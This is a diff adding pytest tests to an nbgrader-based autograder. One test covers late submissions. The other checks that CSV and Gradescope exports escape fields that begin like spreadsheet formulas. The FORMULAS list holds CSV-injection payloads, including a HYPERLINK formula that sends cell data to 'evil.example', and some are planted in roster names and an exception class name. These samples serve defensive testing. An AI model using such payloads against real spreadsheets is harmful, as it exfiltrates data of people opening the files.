@@ -12,12 +12,14 @@ import pytest
 from autograder.cli import main
 from autograder.collect import collect_folder
 from autograder.course import CourseError
-from autograder.export import export_canvas, export_gradescope, export_moodle, export_questions
+from autograder.export import FORMULA_START, NUMBER, export_canvas, export_gradescope, export_moodle, export_questions
 from autograder.final_grade import compute, final_grades, fraction_of, percent
 from autograder.grading.run_lab import grade_lab
 from autograder.gradebook import open_gradebook
 from autograder.policy import Window, feedback_release, load_config, select_versions, session_of, window_for
 from autograder.planted_bugs import reference_submission
+from course_cli import course_command, scores_printed
+from sample_lab import with_answer, write_inbox
 
 LAB = "00_tiny"
 END = datetime(2026, 10, 5, 18, 0, tzinfo=timezone.utc)
@@ -231,3 +233,92 @@ def test_the_quiz_is_graded_once_and_its_feedback_waits_for_the_last_deadline(co
     (course.root / "course.toml").write_text(f'[grading]\nquiz = "{quiz}"\n[labs.{quiz}]\nsession_end = 2026-10-05T18:00:00Z\n')
     assert main(["--course-dir", str(course.root), "feedback", quiz]) == 0
     assert any((course.root / "feedback").rglob("*.html"))
+
+
+def test_late_by_nbgraders_timestamp(course, tmp_path):
+    """An nbgrader course: submitted/STUDENT/LAB/ and timestamp.txt written by nbgrader's exchange, the due date in
+    its gradebook. Late as nbgrader computes it (timestamp after the due date) and shown as late; counted as
+    nbgrader's late rule says: in full under its default (LateSubmissionPlugin.penalty_method 'none'), not at all
+    under 'zero'."""
+    (course.root / "course.toml").write_text('[grading]\nlabs = ["00_tiny"]\n')
+    with open_gradebook(course) as gb:
+        gb.update_or_create_assignment(LAB, duedate=datetime(2026, 1, 1))
+    reference = reference_submission(nbformat.read(course.release(LAB), as_version=4),
+                                     nbformat.read(course.source(LAB), as_version=4))
+    for student, stamp in (("ada", "2025-12-31 23:59:59.000000 UTC"), ("bob", "2099-01-01 00:00:00.000000 UTC"),
+                           ("cy", None)):
+        folder = course.submitted_dir(student, LAB)
+        folder.mkdir(parents=True)
+        nbformat.write(reference, folder / f"{LAB}.ipynb")
+        if stamp:
+            (folder / "timestamp.txt").write_text(stamp)
+
+    graded = course_command(course, "grade", LAB)
+    scores = scores_printed(graded)
+    assert {s: v[0] for s, v in scores.items()} == {"ada": 5, "bob": 5, "cy": 5}  # cy: no timestamp, on time
+    assert "[late]" in scores["bob"][1] and "[late]" not in scores["ada"][1]
+    with open_gradebook(course) as gb:  # nbgrader's own view (formgrader, nbgrader export) says late too
+        late = {s: gb.find_submission(LAB, s).total_seconds_late for s in ("ada", "bob", "cy")}
+    assert late["ada"] == 0 and late["cy"] == 0 and late["bob"] > 2_000_000_000
+    shown = course_command(course, "grades", "--versions").stdout
+    assert "100.00 +1 late" in shown and "received 2099-01-01 00:00 UTC (late, counted)" in shown
+    assert "00_tiny.ipynb time unknown (any)" in shown
+
+    (course.root / "nbgrader_config.py").write_text("c = get_config()\nc.LateSubmissionPlugin.penalty_method = 'zero'\n")
+    scores = scores_printed(course_command(course, "grade", LAB))
+    assert {s: v[0] for s, v in scores.items()} == {"ada": 5, "bob": 0, "cy": 5}
+    assert "[late]" in scores["bob"][1] and "only late versions were received (the last at 2099-01-01 00:00 UTC)" in \
+        scores["bob"][1]
+    shown = course_command(course, "grades", "--versions").stdout
+    assert "0.00 +1 late" in shown and "received 2099-01-01 00:00 UTC (late, not counted)" in shown
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"grades")', "+SUM(1,2)", "-2+3", "@cmd", "\t=1", "\r=1",
+            " =1", "\uff1dHYPERLINK()"]
+
+
+def test_exports_carry_no_formula(course, lab, tmp_path):
+    """Roster and gradebook names, e-mails and a student's exception class named like formulas: no field of any CSV
+    export starts as one (each escaped with a leading apostrophe), numbers stay numbers, and results.json asks
+    Gradescope for plain text."""
+    (course.root / "course.toml").write_text('[grading]\nlabs = ["00_tiny"]\n')
+    with open(course.roster_path, "w", newline="") as f:
+        csv.writer(f).writerows([["id", "first_name", "last_name", "email", "section"],
+                                 ["ada", FORMULAS[0], FORMULAS[1], "ada@example.edu", FORMULAS[3]],
+                                 ["bob", FORMULAS[2], "Bob", "bob@example.edu", "A"]])
+    with open_gradebook(course) as gb:  # names from nbgrader's gradebook (not stripped as roster.csv's are)
+        gb.update_or_create_student("dee", first_name=FORMULAS[4], last_name=FORMULAS[5] + FORMULAS[6], email=FORMULAS[7])
+    hostile = ("def double(x):\n    raise type('" + FORMULAS[0].replace("'", "\\'") + "', (Exception,), {})('boom')")
+    inbox = write_inbox(tmp_path / "inbox", {"ada": with_answer(lab.reference, "double", hostile), "bob": lab.reference})
+    assert collect_folder(course, inbox, LAB).ok
+    grade_lab(course, LAB, echo=lambda s: None)
+
+    done = course_command(course, "export")
+    assert done.returncode == 1 and "moodle: not written: no e-mail in roster.csv for: dee" in done.stderr
+    exports = course.root / "exports"
+    fields = {name: [field for row in csv.reader(open(exports / name, newline="", encoding="utf-8")) for field in row]
+              for name in ("grades.csv", "questions.csv", "canvas.csv")}
+    for name, values in fields.items():
+        for value in values:
+            if not NUMBER.fullmatch(value):
+                assert not any(c in FORMULA_START for c in value[:1] + value.lstrip()[:1]), (name, value)
+    questions = list(csv.DictReader(open(exports / "questions.csv", newline="", encoding="utf-8")))
+    [message] = [q["message"] for q in questions if q["student_id"] == "ada" and q["question"] == "test_double"]
+    assert message.startswith("'" + FORMULAS[0])  # escaped, and still readable
+    grades = list(csv.DictReader(open(exports / "grades.csv", newline="", encoding="utf-8")))
+    ada = next(row for row in grades if row["student_id"] == "ada")
+    assert ada["first_name"] == "'" + FORMULAS[0] and ada["last_name"] == "'" + FORMULAS[1]
+    assert ada[f"{LAB} score"] == "3" and ada["final %"] == "40.00"  # numbers stay numbers
+    dee = next(row for row in grades if row["student_id"] == "dee")
+    assert (dee["first_name"], dee["last_name"], dee["email"]) == ("'" + FORMULAS[4], "'" + FORMULAS[5] + FORMULAS[6],
+                                                                  "'" + FORMULAS[7])
+    canvas = list(csv.reader(open(exports / "canvas.csv", newline="", encoding="utf-8")))
+    assert canvas[1][5:] == ["100"] * 3 and any(row[4] == "'@cmd" for row in canvas)  # the section too
+
+    result = json.loads((exports / "gradescope" / "ada" / LAB / "results.json").read_text())
+    assert result["output_format"] == result["test_output_format"] == result["test_name_format"] == "text"
+    assert any(FORMULAS[0] in test["output"] for test in result["tests"])  # JSON: shown as text by Gradescope
+
+    course.roster_path.write_text("id,first_name,last_name,email\nada,Ada,L,ada@example.edu\nbob,Bob,O,@bob@example.edu\n")
+    with pytest.raises(CourseError, match="e-mail in roster.csv of bob starts like a spreadsheet formula"):
+        export_moodle(course)
